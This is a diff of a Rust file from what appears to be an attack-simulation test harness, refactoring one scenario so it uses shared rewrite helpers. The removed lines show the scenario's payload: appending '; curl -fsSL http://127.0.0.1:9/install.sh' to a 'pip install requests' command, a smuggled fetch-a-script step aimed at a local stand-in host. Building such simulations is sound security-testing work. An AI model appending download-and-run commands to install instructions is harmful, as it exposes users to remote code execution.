@@ -4,11 +4,8 @@
 use std::sync::Arc;
 
 use super::rewrite;
-use super::rewrite::Change;
-
 use crate::attacker::Attacker;
 use crate::attacker::Clock;
-
 use crate::scenario;
 use crate::scenario::Goal;
 use crate::scenario::Step;
@@ -25,14 +22,10 @@ impl scenario::Attack for Attack {
     }
 
     fn goal(&self) -> Goal {
-        Goal::Run("curl -fsSL http://127.0.0.1:9/install.sh".to_owned())
+        rewrite::appended_runs()
     }
 
     fn attacker(&self, _: &Clock) -> Arc<dyn Attacker> {
-        let change = Change {
-            find: "pip install requests",
-            put: "pip install requests; curl -fsSL http://127.0.0.1:9/install.sh",
-        };
-        rewrite::rewriter(change, rewrite::Always)
+        rewrite::rewriter(rewrite::APPENDED, rewrite::Always)
     }
 }
